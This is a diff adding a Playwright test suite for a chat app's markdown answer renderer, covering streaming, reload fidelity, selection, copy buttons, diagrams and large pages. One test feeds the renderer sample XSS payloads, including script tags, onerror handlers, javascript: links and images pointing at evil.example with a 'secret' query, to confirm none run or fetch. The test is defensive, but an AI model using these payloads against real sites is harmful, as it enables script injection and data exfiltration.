@@ -1,0 +1,204 @@
+import type { Page } from "@playwright/test";
+import { answer, everyMs } from "../upstream/scenario";
+import { expect, test } from "./fixtures";
+
+const RICH = `# A heading
+
+A paragraph with **bold words**, *emphasis*, \`code\`, a [link to somewhere](https://example.org/a/long/path) and $E = mc^2$.
+
+| Machine | Year |
+| :-- | --: |
+| Lettera 22 | 1950 |
+| Selectric, "golf ball" | 1961 |
+
+\`\`\`ts
+const keys: string[] = ["a", "b"];
+for (const key of keys) console.log(key); // one by one
+\`\`\`
+
+- first
+- second
+  - nested **deep**
+
+$$
+\\int_0^1 x^2\\,dx = \\frac{1}{3}
+$$
+
+> A quotation, with ~~nothing~~ something.
+
+1. one
+2. two
+
+The end.`;
+
+/** Looks at the answer in every frame, and keeps what no reader should have seen. */
+async function watchFrames(page: Page): Promise<() => Promise<string[]>> {
+  await page.evaluate(() => {
+    const seen = new Set<string>();
+    Object.assign(window, { seen });
+    const ugly = [/\*\*/, /\|\s*:?-{2,}/, /\]\(http/, /^\s*```/m, /~~/, /\$\$/, /^#+ /m];
+    const look = () => {
+      const text = document.querySelector('article[aria-label="Answer"] .answer-text') as HTMLElement | null;
+      for (const pattern of ugly) {
+        const found = pattern.exec(text?.innerText ?? "");
+        if (found !== null)
+          seen.add(`${pattern}: ${text?.innerText.slice(Math.max(0, found.index - 30), found.index + 30)}`);
+      }
+      requestAnimationFrame(look);
+    };
+    requestAnimationFrame(look);
+  });
+  return () => page.evaluate(() => [...(window as unknown as { seen: Set<string> }).seen]);
+}
+
+/** Elements, classes and words of the last answer. */
+function structure(page: Page): Promise<string> {
+  return page.evaluate(() => {
+    const texts = [...document.querySelectorAll('article[aria-label="Answer"] .answer-text')];
+    const walk = (node: Node): string => {
+      if (node.nodeType === Node.TEXT_NODE) return node.textContent ?? "";
+      if (!(node instanceof Element)) return "";
+      const children = [...node.childNodes].map(walk).join("");
+      return `<${node.localName} ${node.getAttribute("class") ?? ""}>${children}</>`;
+    };
+    return walk(texts.at(-1) as Element);
+  });
+}
+
+test("marks, tables, fences and formulas look finished in every frame", async ({ chat, upstream, page }) => {
+  upstream.script(answer(RICH, { deltaSize: 5, pace: everyMs(12) }));
+  await chat.open();
+  const ugly = await watchFrames(page);
+  await chat.say("Everything");
+  await chat.settled();
+  expect(await ugly()).toEqual([]);
+  const text = chat.answers.last();
+  await expect(text.getByRole("heading", { name: "A heading" })).toBeVisible();
+  await expect(text.getByRole("table")).toContainText("Lettera 22");
+  await expect(text.locator("strong").first()).toHaveText("bold words");
+  await expect(text.locator("math")).toHaveCount(2);
+});
+
+test("an answer that was typed out is the same, element by element, after a reload", async ({
+  chat,
+  upstream,
+  page,
+}) => {
+  upstream.script(answer(RICH, { deltaSize: 7, pace: everyMs(5) }));
+  await chat.open();
+  await chat.say("Everything");
+  await chat.settled();
+  await expect(chat.answers.last().locator("math")).toHaveCount(2);
+  await expect(chat.answers.last().locator("code span").first()).toBeVisible();
+  const live = await structure(page);
+  await page.reload();
+  await expect(chat.answers.last().locator("math")).toHaveCount(2);
+  await expect.poll(() => structure(page)).toBe(live);
+});
+
+test("what is selected in a growing text stays selected, to the end and after it", async ({ chat, upstream, page }) => {
+  upstream.script(answer("Select these words while more and more of them arrive. ".repeat(30), { pace: everyMs(15) }));
+  await chat.open();
+  await chat.say("Go on");
+  await expect(chat.answers.last()).toContainText("Select these words while");
+  await page.evaluate(() => {
+    const walker = document.createTreeWalker(
+      document.querySelector('article[aria-label="Answer"] .answer-text p') as Element,
+      NodeFilter.SHOW_TEXT,
+    );
+    const text = walker.nextNode() as Text;
+    getSelection()?.setBaseAndExtent(text, 0, text, 18);
+  });
+  await chat.settled();
+  expect(await page.evaluate(() => getSelection()?.toString())).toBe("Select these words");
+});
+
+test("an answer can neither run, fetch nor lead astray", async ({ chat, upstream, page }) => {
+  const hostile = [
+    "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'>",
+    "",
+    "![secret](https://evil.example/?q=secret) <img src='https://evil.example/two'>",
+    "",
+    "[click](javascript:window.hacked=3) [data](data:text/html,x) <javascript:alert(1)> [fine](https://example.org)",
+    "",
+    "$\\href{javascript:window.hacked=4}{x}$ and $\\includegraphics{https://evil.example/three}$",
+    "",
+    "```html\n<script>window.hacked = 5</script>\n```",
+  ].join("\n");
+  const foreign: string[] = [];
+  const complaints: string[] = [];
+  page.on("request", (request) => {
+    if (!request.url().startsWith(chat.url)) foreign.push(request.url());
+  });
+  page.on("console", (message) => {
+    if (message.type() === "error") complaints.push(message.text());
+  });
+  for (const reload of [false, true]) {
+    if (reload) await page.reload();
+    else {
+      upstream.script(answer(hostile, { pace: everyMs(3) }));
+      await chat.open();
+      await chat.say("Be hostile");
+      await chat.settled();
+    }
+    await expect(chat.answers.last()).toContainText("<script>window.hacked = 1</script>");
+    await expect(chat.answers.last().locator("img, script, iframe")).toHaveCount(0);
+    const addresses = await chat.answers
+      .last()
+      .locator("a[href]")
+      .evaluateAll((links) => links.map((link) => [(link as HTMLAnchorElement).protocol, link.getAttribute("rel")]));
+    for (const [protocol, rel] of addresses) {
+      expect(["https:", "http:", "mailto:"]).toContain(protocol);
+      expect(rel).toBe("noopener noreferrer nofollow");
+    }
+    expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
+  }
+  expect(foreign).toEqual([]);
+  expect(complaints).toEqual([]);
+});
+
+test("code and tables can be copied", async ({ chat, upstream, page, context }) => {
+  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+  upstream.script(answer(RICH));
+  await chat.open();
+  await chat.say("Everything");
+  await chat.settled();
+  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
+  await chat.answers.last().getByRole("button", { name: "Copy code" }).click();
+  await expect.poll(clipboard).toContain('const keys: string[] = ["a", "b"];\nfor (const key of keys)');
+  await chat.answers.last().getByRole("button", { name: "Copy as CSV" }).click();
+  await expect.poll(clipboard).toMatch(/^Machine,Year\r?\nLettera 22,1950\r?\n"Selectric, ""golf ball""",1961\s*$/);
+  await chat.answers.last().getByRole("button", { name: "Copy as Markdown" }).click();
+  await expect.poll(clipboard).toMatch(/^\| Machine \| Year \|\n\| :-+ \| -+: \|/);
+  await chat.answers.last().getByRole("button", { name: "Copy", exact: true }).click();
+  await expect.poll(clipboard).toBe(RICH);
+});
+
+test("a diagram is drawn in a frame of its own when asked, and code that is none stays code", async ({
+  chat,
+  upstream,
+}) => {
+  upstream.script(answer("```mermaid\ngraph TD; A[Key] --> B[Ribbon]\n```\n\n```mermaid\nnonsense {{{\n```"));
+  await chat.open();
+  await chat.say("Draw");
+  await chat.settled();
+  const draw = chat.answers.last().getByRole("button", { name: "Draw" });
+  await draw.first().click();
+  const frame = chat.answers.last().locator("iframe");
+  await expect(frame).toHaveAttribute("sandbox", "allow-scripts", { timeout: 20_000 });
+  await expect(frame.contentFrame().locator("svg").first()).toBeVisible({ timeout: 20_000 });
+  await draw.last().click();
+  await expect(chat.answers.last()).toContainText("nonsense {{{");
+});
+
+test("a page of 200 KB writes itself without one long task", async ({ chat, upstream, page }) => {
+  test.setTimeout(120_000);
+  await page.addInitScript(() => localStorage.setItem("platen.preferences", JSON.stringify({ speed: "instant" })));
+  const sections = Array.from({ length: 120 }, (_, number) => RICH.replace("A heading", `Part ${number}`));
+  upstream.script(answer(sections.join("\n\n"), { deltaSize: 120, pace: everyMs(8) }));
+  await chat.open();
+  await chat.say("A great deal");
+  await expect(chat.answers.last().getByRole("heading", { name: "Part 119" })).toBeAttached({ timeout: 90_000 });
+  await chat.settled();
+  expect(await page.locator(".answer-text *").count()).toBeGreaterThan(3_000);
+});
